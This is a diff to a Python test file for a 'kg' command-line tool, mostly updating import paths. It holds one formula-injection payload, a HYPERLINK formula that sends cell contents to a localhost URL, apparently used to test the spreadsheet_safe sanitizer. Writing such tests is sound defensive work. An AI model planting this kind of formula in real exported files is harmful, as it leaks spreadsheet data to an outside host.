@@ -9,9 +9,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 from typer.testing import CliRunner
 
-from kg.build import build
+from kg.graph.build import build
 from kg.cli import app
-from kg.output import render, spreadsheet_safe
+from kg.analysis.output import render, spreadsheet_safe
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("http://127.0.0.1/?leak="&A1,"x")'
